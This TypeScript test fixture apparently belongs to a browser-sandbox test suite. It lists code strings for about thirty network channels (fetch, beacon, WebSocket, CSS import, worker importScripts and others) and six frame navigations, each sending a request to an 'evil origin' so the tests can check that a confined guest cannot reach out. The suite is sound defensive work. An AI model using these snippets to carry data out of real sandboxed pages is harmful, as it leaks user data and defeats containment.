/**
 * Ways out of a realm (threat S-06), each as the source of a function of the evil origin and a name. Run as written in a guest, and in an
 * unconfined page as the control. Not here: preconnect and dns-prefetch make no request, WebTransport needs QUIC (off on closed networks), anchors
 * and navigations of the top have tests of their own (S-02 to S-04).
 */
export const CHANNELS: Readonly<Record<string, string>> = {
  fetch: `(to) => { const native = (globalThis.WorkerGlobalScope ?? Window).prototype.fetch ?? fetch; void native.call(globalThis, to, { mode: "no-cors" }).catch(() => {}); }`,
  xhr: `(to) => { const request = new XMLHttpRequest(); request.open("GET", to); request.send(); }`,
  image: `(to) => { new Image().src = to; }`,
  beacon: `(to) => { navigator.sendBeacon(to, "x"); }`,
  websocket: `(to) => { new WebSocket(to.replace("http", "ws")); }`,
  eventsource: `(to) => { new EventSource(to); }`,
  ping: `(to) => { const a = Object.assign(document.createElement("a"), { href: "#x", ping: to }); document.body.append(a); a.click(); }`,
  prefetch: `(to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to })); }`,
  preload: `(to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: to })); }`,
  modulepreload: `(to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: to })); }`,
  stylesheet: `(to) => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: to })); }`,
  icon: `(to) => { document.body.append(Object.assign(document.createElement("video"), { poster: to })); }`,
  "child-iframe": `(to) => { document.body.append(Object.assign(document.createElement("iframe"), { src: to })); }`,
  "srcdoc-image": `(to) => { document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: '<img src="' + to + '">' })); }`,
  "css-url": `(to) => { document.body.style.backgroundImage = 'url("' + to + '")'; }`,
  "css-import": `(to) => { document.head.append(Object.assign(document.createElement("style"), { textContent: '@import "' + to + '";' })); }`,
  font: `(to) => { void new FontFace("x", 'url("' + to + '")').load().catch(() => {}); }`,
  "blob-worker-fetch": `(to) => { new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '", { mode: "no-cors" }).catch(() => {})']))); }`,
  "import-scripts": `(to) => { new Worker(URL.createObjectURL(new Blob(['try { importScripts("' + to + '") } catch {}']))); }`,
  script: `(to) => { document.head.append(Object.assign(document.createElement("script"), { src: to })); }`,
  "data-script": `(to) => { document.head.append(Object.assign(document.createElement("script"), { src: "data:text/javascript," + encodeURIComponent('new Image().src="' + to + '"') })); }`,
  object: `(to) => { document.body.append(Object.assign(document.createElement("object"), { data: to })); }`,
  embed: `(to) => { document.body.append(Object.assign(document.createElement("embed"), { src: to })); }`,
  audio: `(to) => { document.body.append(Object.assign(document.createElement("audio"), { src: to, preload: "auto" })); }`,
  "dynamic-import": `(to) => { void import(to).catch(() => {}); }`,
  svg: `(to) => { const host = document.createElement("div"); host.innerHTML = '<svg><image href="' + to + '"/></svg>'; document.body.append(host); }`,
};

/** Ways of a frame to take itself elsewhere (S-04). Each ends the document it runs in. */
export const NAVIGATIONS: Readonly<Record<string, string>> = {
  location: `(to) => { location.href = to; }`,
  replace: `(to) => { location.replace(to); }`,
  "meta-refresh": `(to) => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + to })); }`,
  "form-get": `(to) => { const form = Object.assign(document.createElement("form"), { action: to, method: "get" }); document.body.append(form); form.submit(); }`,
  "form-post": `(to) => { const form = Object.assign(document.createElement("form"), { action: to, method: "post" }); document.body.append(form); form.submit(); }`,
  anchor: `(to) => { const a = Object.assign(document.createElement("a"), { href: to }); document.body.append(a); a.click(); }`,
};
